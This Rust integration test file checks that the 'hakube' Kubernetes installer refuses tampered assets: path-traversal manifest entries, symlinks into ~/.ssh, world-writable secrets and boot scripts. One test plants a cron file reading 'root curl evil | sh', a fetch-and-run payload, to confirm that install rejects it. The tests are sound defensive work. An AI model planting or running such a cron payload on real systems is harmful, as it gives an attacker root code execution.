//! The assets directory as untrusted input (issue 11, "Trust nothing that is read"),
//! through the real binary: a tampered manifest, links inside the assets, secrets other
//! users can write, and what install refuses before it connects to anything.

use std::path::Path;
use std::process::{Command, Output, Stdio};

fn hakube(args: &[&str], cwd: &Path) -> Output {
    Command::new(env!("CARGO_BIN_EXE_hakube"))
        .args(args)
        .current_dir(cwd)
        .stdin(Stdio::null())
        .output()
        .expect("failed to run hakube")
}

fn sample(name: &str) -> String {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../samples").join(name).to_str().unwrap().to_string()
}

fn text(out: &Output) -> String {
    format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr))
}

fn edit_manifest(assets: &Path, edit: impl FnOnce(&mut serde_json::Value)) {
    let path = assets.join("manifest.json");
    let mut value: serde_json::Value = serde_json::from_str(&std::fs::read_to_string(&path).unwrap()).unwrap();
    edit(&mut value);
    std::fs::write(&path, serde_json::to_string_pretty(&value).unwrap()).unwrap();
}

/// Item 2: `../victim/x` added to manifest.json (as if a removed node's file); render
/// refuses, naming the entry and what to do, and the file outside the assets survives.
#[test]
fn render_refuses_a_manifest_entry_outside_the_layout() {
    let dir = tempfile::tempdir().unwrap();
    let lab = sample("single-master.json");
    assert_eq!(hakube(&["render", &lab], dir.path()).status.code(), Some(0));
    std::fs::create_dir(dir.path().join("victim")).unwrap();
    std::fs::write(dir.path().join("victim/x"), "keep me").unwrap();
    let assets = dir.path().join("assets");
    edit_manifest(&assets, |m| m["files"]["../victim/x"] = m["files"]["ssh/known_hosts"].clone());
    let out = hakube(&["render", &lab], dir.path());
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    let err = text(&out);
    assert!(
        err.contains("hakube: error: assets/manifest.json: entry \"../victim/x\" is not a file hakube renders; it was edited or is not hakube's: restore it (e.g. from git), or delete it and run `hakube render` again"),
        "{err}"
    );
    assert_eq!(std::fs::read_to_string(dir.path().join("victim/x")).unwrap(), "keep me");
}

/// Item 3: `assets/ssh -> ../home/.ssh`, as the audit found it. Render refuses, naming the
/// link; the operator's key and known_hosts keep their bytes and modes.
#[test]
fn render_refuses_a_symlinked_directory_in_the_assets() {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().unwrap();
    let ssh = dir.path().join("home/.ssh");
    std::fs::create_dir_all(&ssh).unwrap();
    std::fs::write(ssh.join("id_ed25519"), "mine\n").unwrap();
    std::fs::set_permissions(ssh.join("id_ed25519"), std::fs::Permissions::from_mode(0o600)).unwrap();
    std::fs::write(ssh.join("known_hosts"), "my hosts\n").unwrap();
    std::fs::set_permissions(ssh.join("known_hosts"), std::fs::Permissions::from_mode(0o644)).unwrap();
    std::fs::create_dir(dir.path().join("assets")).unwrap();
    std::os::unix::fs::symlink("../home/.ssh", dir.path().join("assets/ssh")).unwrap();
    let out = hakube(&["render", &sample("single-master.json")], dir.path());
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    assert!(
        text(&out).contains(
            "hakube: error: assets/ssh is a symbolic link; hakube never follows links inside the assets directory"
        ),
        "{}",
        text(&out)
    );
    let mode = |name: &str| std::fs::metadata(ssh.join(name)).unwrap().permissions().mode() & 0o7777;
    assert_eq!(std::fs::read_to_string(ssh.join("id_ed25519")).unwrap(), "mine\n");
    assert_eq!(std::fs::read_to_string(ssh.join("known_hosts")).unwrap(), "my hosts\n");
    assert_eq!((mode("id_ed25519"), mode("known_hosts")), (0o600, 0o644));
    assert_eq!(std::fs::read_dir(&ssh).unwrap().count(), 2);
}

/// The sha256 hakube-render records, for forging manifest entries.
fn sha256(path: &Path) -> String {
    hakube_render::manifest::sha256_hex(&std::fs::read(path).unwrap())
}

/// Item 4: install verifies the assets before it plans, connects or ships anything: an
/// entry added to ship a file into /etc/cron.d (with its true sha256), a real entry whose
/// destination was moved there, a file whose bytes no longer match, and a linked node
/// directory are each refused by name, with what to run. `--dry-run` refuses the same.
#[test]
fn install_verifies_the_assets_before_anything_connects() {
    let dir = tempfile::tempdir().unwrap();
    let lab = sample("single-master.json");
    assert_eq!(hakube(&["render", &lab], dir.path()).status.code(), Some(0));
    let assets = dir.path().join("assets");
    let manifest = std::fs::read_to_string(assets.join("manifest.json")).unwrap();
    let install = |args: &[&str]| {
        let mut all = vec!["install", lab.as_str()];
        all.extend_from_slice(args);
        hakube(&all, dir.path())
    };
    let refused = |needle: &str| {
        for args in [&["--dry-run"][..], &["--connect-timeout", "1"][..]] {
            let out = install(args);
            assert_eq!(out.status.code(), Some(1), "{args:?}: {}", text(&out));
            assert!(text(&out).contains(needle), "{args:?}: {}", text(&out));
            assert!(!text(&out).contains("plan for"), "planned: {}", text(&out));
        }
        assert!(!dir.path().join("logs").exists(), "install started");
    };

    // A file of the attacker's, with its true sha256, shipped into /etc/cron.d.
    std::fs::write(assets.join("evil"), "* * * * * root curl evil | sh\n").unwrap();
    let evil = sha256(&assets.join("evil"));
    edit_manifest(&assets, |m| {
        m["files"]["evil"] = serde_json::json!({
            "sha256": evil, "mode": "0644", "secret": false, "nodes": ["master0"], "destination": "/etc/cron.d/evil"
        })
    });
    refused("assets/manifest.json: entry \"evil\" is not a file hakube renders");
    // A real entry, its destination moved.
    std::fs::write(assets.join("manifest.json"), &manifest).unwrap();
    edit_manifest(&assets, |m| m["files"]["nodes/master0/boot.sh"]["destination"] = "/etc/cron.d/boot".into());
    refused("entry \"nodes/master0/boot.sh\": destination \"/etc/cron.d/boot\", but hakube ships it to \"/etc/hakube/boot.sh\"");
    // A file that no longer matches its sha256 (not only the ones that ship to targets).
    std::fs::write(assets.join("manifest.json"), &manifest).unwrap();
    let hash = assets.join("token/discovery-token-ca-cert-hash");
    let saved = std::fs::read(&hash).unwrap();
    std::fs::write(&hash, "sha256:0000\n").unwrap();
    refused(
        "assets/token/discovery-token-ca-cert-hash: does not match the sha256 in manifest.json; run `hakube render`",
    );
    std::fs::write(&hash, saved).unwrap();
    // A node directory replaced by a link to a copy (every sha256 still matches).
    let real = dir.path().join("elsewhere");
    std::fs::rename(assets.join("nodes/worker0"), &real).unwrap();
    std::os::unix::fs::symlink(&real, assets.join("nodes/worker0")).unwrap();
    refused("assets/nodes/worker0 is a symbolic link");
    std::fs::remove_file(assets.join("nodes/worker0")).unwrap();
    std::fs::rename(&real, assets.join("nodes/worker0")).unwrap();
    let out = install(&["--dry-run"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
}

/// Item 7: an assets directory anyone can write (0777): render refuses to reuse the
/// secrets in it and install refuses to ship from it, each saying `chmod go-w assets`;
/// a boot script anyone can write is refused by install (it runs as root on the node).
#[test]
fn secrets_and_shipped_files_others_can_write_are_refused() {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().unwrap();
    let lab = sample("single-master.json");
    assert_eq!(hakube(&["render", &lab], dir.path()).status.code(), Some(0));
    let assets = dir.path().join("assets");
    let chmod = |p: &Path, mode: u32| std::fs::set_permissions(p, std::fs::Permissions::from_mode(mode)).unwrap();
    chmod(&assets, 0o777);
    for args in [&["render", &lab][..], &["install", &lab, "--dry-run"][..]] {
        let out = hakube(args, dir.path());
        assert_eq!(out.status.code(), Some(1), "{args:?}: {}", text(&out));
        let err = text(&out);
        assert!(err.contains("hakube: error: refusing to read assets/"), "{args:?}: {err}");
        assert!(
            err.contains("assets is writable by group or others (mode 0777), so another user could have replaced what it holds; run `chmod go-w assets`"),
            "{args:?}: {err}"
        );
    }
    chmod(&assets, 0o700);
    chmod(&assets.join("nodes/worker0/boot.sh"), 0o777);
    let out = hakube(&["install", &lab, "--dry-run"], dir.path());
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    assert!(
        text(&out).contains("refusing to read assets/nodes/worker0/boot.sh: assets/nodes/worker0/boot.sh is writable by group or others (mode 0777)"),
        "{}",
        text(&out)
    );
    chmod(&assets.join("nodes/worker0/boot.sh"), 0o755);
    assert_eq!(hakube(&["install", &lab, "--dry-run"], dir.path()).status.code(), Some(0));
}

/// Item 10: a temporary copy of admin.conf a killed render left is removed by the next
/// render, which says so.
#[test]
fn render_removes_the_temporaries_a_killed_render_left() {
    let dir = tempfile::tempdir().unwrap();
    let lab = sample("single-master.json");
    assert_eq!(hakube(&["render", &lab], dir.path()).status.code(), Some(0));
    let assets = dir.path().join("assets");
    std::fs::copy(assets.join("kubeconfig/admin.conf"), assets.join("kubeconfig/.hakube-Xy12Ab")).unwrap();
    let out = hakube(&["render", &lab], dir.path());
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    assert!(
        text(&out).contains(" cleaned assets/kubeconfig/.hakube-Xy12Ab (a temporary file an interrupted render left)"),
        "{}",
        text(&out)
    );
    assert!(!assets.join("kubeconfig/.hakube-Xy12Ab").exists());
}

/// A node's log file that cannot be created (here a directory stands in its place) stops
/// install before it connects, naming the file; it used to be skipped silently, and the
/// node's output was lost.
#[test]
fn install_refuses_to_run_without_a_log_file() {
    let dir = tempfile::tempdir().unwrap();
    let lab = sample("single-master.json");
    assert_eq!(hakube(&["render", &lab], dir.path()).status.code(), Some(0));
    std::fs::create_dir_all(dir.path().join("logs/worker1.log")).unwrap();
    let out = hakube(&["install", &lab, "--connect-timeout", "1"], dir.path());
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    assert!(text(&out).contains("cannot write the log file logs/worker1.log: "), "{}", text(&out));
}
